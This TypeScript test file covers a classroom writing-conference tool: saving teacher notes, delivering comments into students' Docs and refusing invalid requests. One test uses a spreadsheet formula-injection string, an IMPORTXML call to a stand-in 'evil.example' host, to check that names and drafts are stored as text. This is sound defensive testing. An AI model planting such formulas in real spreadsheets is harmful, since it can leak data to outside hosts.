// Owns: the promises of a conference: what opens, what is saved, and what each child then finds.
import { TEACHER } from '../../../src/local/begin';
import { ANA, Classroom, FOUR, present, sampleClass, writer } from '../classroom';

const group = new Classroom();
const meeting = group.group();
const copy = group.copier();

describe('a conference', () => {
  it('opens with each draft, what is needed, and only the points that are of use', () => {
    expect(meeting.conference).toMatchObject({ kind: 'group', skill: { id: 'lead' } });
    expect(meeting.writers.map(({ name }) => name).sort()).toEqual([
      'Ana Moss',
      'Ben Moss',
      'Chi Moss',
      'Dee Moss',
    ]);
    const ana = present(meeting.writers.find(({ name }) => name === 'Ana Moss'));
    expect(present(ana.draft).paragraphs[1]?.sentences[0]).toMatchObject({ text: 'It was dark.' });
    expect(meeting.points[0]?.skill).toBe('lead');
    const wanted = new Set([
      'lead',
      ...meeting.writers.flatMap(({ needs }) => needs.map(({ skill }) => skill)),
    ]);
    expect(meeting.points.filter(({ skill }) => !wanted.has(skill))).toEqual([]);
    const all = group.call<{ skill: string }[]>('teachingPoints');
    expect(all.length).toBeGreaterThan(meeting.points.length);
    expect(JSON.stringify(meeting).length).toBeLessThan(60_000);
  });

  it('shows before saving exactly what each child will read', () => {
    const room = copy();
    const request = room.request(meeting);
    const previews = room.call<{ writerId: string; feedback: string }[]>('preview', [request]);
    room.save(request);
    room.deliver();
    for (const { writerId, feedback } of previews) {
      const name = present(FOUR.find(({ givenName }) => room.student(givenName) === writerId));
      expect(room.doc(name.givenName).threads[0]?.headPost.content).toBe(feedback);
    }
  });

  it('leaves four notes, and four comments each on its own words in its own Doc', () => {
    const room = copy();
    const saved = room.save(room.request(meeting));
    expect(saved.map(({ state }) => state)).toEqual(Array(4).fill('sending'));
    expect(room.rows('Conferences')).toHaveLength(4);
    expect(room.threads).toHaveLength(0);
    const sent = room.deliver(saved.map(({ id }) => id));
    expect(sent.map(({ state }) => state)).toEqual(Array(4).fill('sent'));
    expect(room.lastRun.rounds.google).toBe(2);
    expect(room.threads).toHaveLength(4);
    expect(room.anchored('Ana')).toBe('It was dark.');
    expect(room.anchored('Ben')).toBe(
      'The lake was cold and I jumped in it anyway with my cousin.',
    );
    expect(room.anchored('Chi')).toBe('My grandma cooks on Sundays.');
    expect(room.anchored('Dee')).toBe('I lost my tooth on the bus.');
    expect(room.doc('Dee').threads[0]?.headPost).toMatchObject({
      authorId: room.teacherId,
      content: expect.stringContaining('writer Dee.'),
    });
    expect(room.open().week?.conferences.filter(({ state }) => state === 'held')).toHaveLength(1);
    const ana = present(room.rows('Writers').find(({ Writer }) => Writer === 'Ana Moss'));
    expect(ana).toMatchObject({ 'Next step': 'Add two more sentences here.', Visits: '1' });
  });

  it('finds the words where they are after the writer typed, before and during the sending', () => {
    const room = copy();
    room.save(room.request(meeting));
    const { id } = room.doc('Ana');
    const by = room.student('Ana');
    const start = room.people.indexOf({ fileId: id }, 'It was dark.');
    room.people.type({ fileId: id, by }, start, 'Last night I woke up. ');
    // Between the reading and the writing: the second round of requests.
    room.run('deliver', [[]], TEACHER.email, {
      [firstPost(room)]: {
        type: 'meanwhile',
        act: () => room.people.type({ fileId: id, by }, start, 'Oh no. '),
      },
    });
    expect(room.anchored('Ana')).toBe('It was dark.');
    expect(room.doc('Ana').tabs[0]?.text).toContain('Oh no. Last night I woke up. It was dark.');
  });

  it('puts the comment on the title, with the passage, when the words are gone', () => {
    const room = copy();
    room.save(room.request(meeting));
    const { id } = room.doc('Ana');
    const start = room.people.indexOf({ fileId: id }, 'It was dark. ');
    room.people.erase({ fileId: id, by: room.student('Ana') }, { start, end: start + 13 });
    room.deliver();
    expect(room.anchored('Ana')).toBe('My story');
    expect(room.doc('Ana').threads[0]?.headPost.content).toMatch(/^About “It was dark\.”:/);
  });

  it('takes a save sent again for the same save, whether or not the page knows', () => {
    const room = copy();
    const request = room.request(meeting);
    const first = room.save(request);
    expect(room.save({ ...request, again: true })).toEqual(first);
    expect(room.save(request)).toEqual(first);
    room.deliver();
    expect(room.save(request).map(({ state }) => state)).toEqual(Array(4).fill('sent'));
    expect(room.rows('Conferences')).toHaveLength(4);
    expect(room.threads).toHaveLength(4);
    expect(room.rows('Writers').map(({ Visits }) => Visits)).toEqual(Array(4).fill('1'));
  });

  it('keeps the notes of a conference that was planned away meanwhile', () => {
    const room = copy();
    const request = room.request(meeting);
    for (const name of ['Ana', 'Ben']) room.mark(`${name} Moss`, 'My marks', 'Ending');
    room.plan();
    expect(room.open().week?.conferences.map(({ id }) => id)).not.toContain(request.conferenceId);
    room.workspace.turnClock(Date.parse('2026-11-02T10:30:00-06:00'));
    room.save(request);
    room.deliver();
    expect(room.threads).toHaveLength(4);
    room.plan();
    const { week } = room.open();
    expect(week?.conferences.filter(({ state }) => state === 'held')).toHaveLength(1);
    expect(week?.missed).toEqual([]);
  });

  it('gives a conference that planning again leaves as it was the id that it had', () => {
    const room = copy();
    room.plan();
    expect(room.open().week?.conferences.map(({ id }) => id)).toContain(meeting.conference.id);
    expect(room.save(room.request(meeting))).toHaveLength(4);
  });

  it('refuses a note for someone else’s class, and saves nothing', () => {
    const room = copy();
    const request = room.request(meeting, (name) => (name === 'Ana' ? { writerId: '1' } : {}));
    expect(room.refusal('saveConference', [request])).toMatch(/not in this conference/);
    const doubled = room.request(meeting, (name) =>
      name === 'Ana' ? { writerId: room.student('Ben') } : {},
    );
    expect(room.refusal('saveConference', [doubled])).toMatch(/two notes/);
    const long = room.request(meeting, () => ({ learned: 'x'.repeat(5000) }));
    expect(room.refusal('saveConference', [long])).toMatch(/longer than 4000/);
    expect(room.rows('Conferences')).toEqual([]);
  });

  it('still saves the others when a line was deleted from the tab Writers', () => {
    const room = copy();
    const row = room.rows('Writers').findIndex(({ Writer }) => Writer === 'Ana Moss') + 2;
    room.hands.delete('Writers', 'rows', row);
    const opened = room.start(meeting.conference.id);
    expect(opened.writers.map(({ name }) => name)).not.toContain('Ana Moss');
    const saved = room.save(room.request(meeting));
    expect(saved).toHaveLength(4);
    const sent = room.deliver();
    expect(sent.filter(({ state }) => state === 'sent')).toHaveLength(3);
    expect(sent.find(({ name }) => name === 'Ana Moss')?.state).toBe('waiting');
  });

  it('asks before feedback that names another writer goes out', () => {
    const room = copy();
    const request = room.request(meeting, (name) =>
      name === 'Ana' ? { strength: 'This is as vivid as what Ben wrote.' } : {},
    );
    room.save(request);
    room.deliver();
    expect(room.threads).toHaveLength(3);
    const [waiting] = room.open().waiting;
    expect(waiting).toMatchObject({ name: 'Ana Moss', canSendAnyway: true });
    expect(waiting?.says).toMatch(/^It names Ben Moss\./);
    expect(room.call('sendAnyway', [waiting?.id])).toMatchObject({ state: 'sent' });
    expect(room.doc('Ana').threads[0]?.headPost.content).toContain('what Ben wrote');
  });

  it('sends nothing where only a note was wanted', () => {
    const room = copy();
    room.save(room.request(meeting, (name) => (name === 'Ana' ? { comment: false } : {})));
    room.deliver();
    expect(room.threads).toHaveLength(3);
    expect(room.doc('Ana').threads).toEqual([]);
    expect(room.rows('Conferences').map((row) => row.Comment)).toContain('note only');
  });

  it('shows what the writers answered', () => {
    const room = copy();
    room.save(room.request(meeting));
    room.deliver();
    const doc = room.doc('Ana');
    room.people.reply(
      { fileId: doc.id, by: room.student('Ana') },
      present(doc.threads[0]).id,
      'I added the owl!',
    );
    const ana = room.start(meeting.conference.id).writers.find(({ name }) => name === 'Ana Moss');
    expect(ana?.draft?.replies).toMatchObject([{ says: 'I added the owl!' }]);
    expect(ana?.last).toMatchObject({ nextStep: 'Add two more sentences here.' });
  });

  it('is not stopped by hidden cells that were typed over', () => {
    const room = copy();
    for (const header of ['Last note', 'Evidence']) room.mark('Ana Moss', header, '{"oops');
    room.save(room.request(meeting));
    const columns = Object.keys(present(room.rows('Conferences')[0]));
    const letter = `A${String.fromCharCode(65 + columns.indexOf('Passage') - 26)}`;
    const passage =
      columns.indexOf('Passage') < 26
        ? String.fromCharCode(65 + columns.indexOf('Passage'))
        : letter;
    for (const row of [2, 3, 4, 5]) room.hands.type('Conferences', `${passage}${row}`, 'gone');
    expect(room.deliver().map(({ state }) => state)).toEqual(Array(4).fill('sent'));
    expect(room.start(meeting.conference.id).writers).toHaveLength(4);
    room.plan();
  });

  it('never lets a name, a title or a draft become a formula', () => {
    const evil = '=IMPORTXML("https://evil.example","//a")';
    const bad = writer('Ana', [`${evil} and ${ANA}`, '=1+1', '@SUM(A1)', '+1', '-1']);
    const room = new Classroom({
      classes: [
        {
          ...sampleClass([{ ...bad, familyName: evil }, ...FOUR.slice(1)]),
          name: evil,
          assignment: { ...sampleClass([]).assignment, title: evil },
        },
      ],
    });
    room.setUp({ weekly: true });
    room.pull();
    room.plan();
    const one = room.start(
      present(
        room
          .open()
          .week?.conferences.find(({ writers }) =>
            writers.some(({ name }) => name.includes('Ana')),
          ),
      ).id,
    );
    room.save(room.request(one, () => ({ strength: evil, learned: evil, nextStep: '=2+2' })));
    room.deliver();
    room.workspace.turnClock(Date.parse('2026-11-01T19:30:00-06:00'));
    // The notebook has formulas of its own, for its chart.
    expect(room.formulas.filter((one) => /IMPORTXML|1\+1|2\+2|A1\)/.test(one))).toEqual([]);
    expect(room.rows('Conferences')[0]?.Strength).toBe(evil);
    expect(room.rows('Activity').length).toBeGreaterThan(2);
  });
});

/** The number of the first call of a delivery that writes to a Doc. */
function firstPost(room: Classroom): number {
  const trial = room.copier()();
  trial.run('deliver', [[]]);
  const post = trial.lastRun.calls.find(({ detail }) => detail?.startsWith('POST'));
  return present(post).number;
}
